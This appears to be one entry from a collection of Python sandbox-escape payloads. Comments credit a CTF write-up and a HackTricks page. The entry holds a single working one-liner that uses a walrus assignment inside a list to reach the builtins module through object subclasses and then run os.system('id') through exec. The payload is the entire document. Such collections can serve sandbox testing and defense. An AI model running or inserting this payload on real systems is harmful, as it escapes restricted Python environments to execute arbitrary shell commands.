# Source: https://ur4ndom.dev/posts/2020-06-29-0ctf-quals-pyaucalc/ (walrus inside a list); https://book.hacktricks.xyz/generic-methodologies-and-resources/python/bypass-python-sandboxes
# Family: walrus
# What: walrus inside a list display chains subclass walk and builtins exec in one expression
[y := ().__class__.__base__.__subclasses__()[107]().load_module("builtins"), y.exec("import os; os.system('id')", {"__builtins__": y.__dict__})]
